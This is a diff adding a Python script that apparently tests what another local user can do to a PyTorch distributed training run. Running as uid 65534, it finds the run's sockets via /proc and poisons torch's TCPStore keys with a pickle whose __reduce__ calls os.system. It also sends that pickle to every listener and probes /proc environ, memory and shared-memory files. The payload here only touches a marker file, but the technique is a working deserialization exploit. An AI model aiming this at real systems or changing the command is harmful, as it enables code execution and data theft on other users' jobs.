@@ -1,0 +1,121 @@
+"""attacked.py PIDS FOLDER: what another user of the machine can do to the processes of a run, done as user 65534.
+
+Tells, as JSON: the listeners that were found, and what could be read. A pickle that is loaded anywhere touches
+FOLDER/ran, into which everybody can write.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import pickle
+import signal
+import socket
+import sys
+from collections.abc import Iterator
+from contextlib import suppress
+from datetime import timedelta
+from pathlib import Path
+
+os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"  # of torch's own tries
+
+import torch.distributed as dist
+
+STRANGER = 65534
+
+
+class Command:
+    """Runs a command where it is unpickled."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return os.system, (f"touch {self.folder}/ran",)
+
+
+def inodes(pids: list[int]) -> set[str]:
+    """Sockets of the processes, by the number that the kernel gives each."""
+    found = set()
+    for pid in pids:
+        for link in Path(f"/proc/{pid}/fd").glob("*"):
+            with suppress(OSError):
+                told = os.readlink(link)
+                if told.startswith("socket:["):
+                    found.add(told[8:-1])
+    return found
+
+
+def tcp_listeners(ours: set[str]) -> Iterator[tuple[str, int]]:
+    """(host, port) of each."""
+    for family, name in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
+        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
+            words = line.split()
+            if words[3] == "0A" and words[9] in ours:
+                address, port = words[1].split(":")
+                whole = bytes.fromhex(address)
+                host = b"".join(whole[at : at + 4][::-1] for at in range(0, len(whole), 4))
+                yield socket.inet_ntop(family, host), int(port, 16)
+
+
+def unix_listeners(ours: set[str]) -> Iterator[str]:
+    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
+        words = line.split()
+        if words[3] == "00010000" and words[6] in ours and len(words) > 7:
+            yield words[7].replace("@", "\0", 1)
+
+
+def garbage(family: socket.AddressFamily, address: object, payload: bytes) -> bytes:
+    """Send what is no message of the run's, as it and as gloo's peers begin; return what comes back."""
+    come = b""
+    for head in (b"", bytes(8), (1).to_bytes(8, "little"), (8).to_bytes(4, "big") + (1).to_bytes(4, "big")):
+        with suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as connection:
+            connection.settimeout(2)
+            connection.connect(address)  # type: ignore[arg-type]
+            connection.sendall(head + payload)
+            come += connection.recv(1 << 16)
+    return come
+
+
+def poison(host: str, port: int, payload: bytes) -> None:
+    """Set every key of torch's store, where one listens, to what elastic's rendezvous unpickles; end the process."""
+    signal.alarm(20)  # others never answer
+    with suppress(RuntimeError, ValueError):
+        store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=5))
+        for key in store.list_keys():
+            store.set(key, base64.b64encode(payload).decode())
+    os._exit(0)
+
+
+def attack(pids: list[int], folder: Path) -> dict[str, object]:
+    ours = inodes(pids)
+    tcp, unix = list(tcp_listeners(ours)), list(unix_listeners(ours))
+    os.setgroups([])
+    os.setgid(STRANGER)
+    os.setuid(STRANGER)
+    payload = pickle.dumps(Command(folder))
+    stores = []
+    for place in tcp:
+        if not (pid := os.fork()):
+            poison(*place, payload)
+        stores.append(pid)
+    for pid in stores:
+        os.waitpid(pid, 0)
+    told = b"".join(
+        garbage(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, port), payload) for host, port in tcp
+    )
+    told += b"".join(garbage(socket.AF_UNIX, name, payload) for name in unix)
+    read = []
+    for pid in pids:
+        places = [*Path("/dev/shm").glob("*"), Path(f"/proc/{pid}/environ"), Path(f"/proc/{pid}/mem")]
+        places += [Path(f"/proc/{pid}/fd/{number}") for number in range(256)]
+        for place in places:
+            with suppress(OSError):
+                os.close(os.open(place, os.O_RDONLY))
+                read.append(str(place))
+    return {"tcp": tcp, "unix": len(unix), "told": told.hex(), "read": sorted(set(read))}
+
+
+if __name__ == "__main__":
+    print(json.dumps(attack([int(pid) for pid in sys.argv[1].split(",")], Path(sys.argv[2]))))
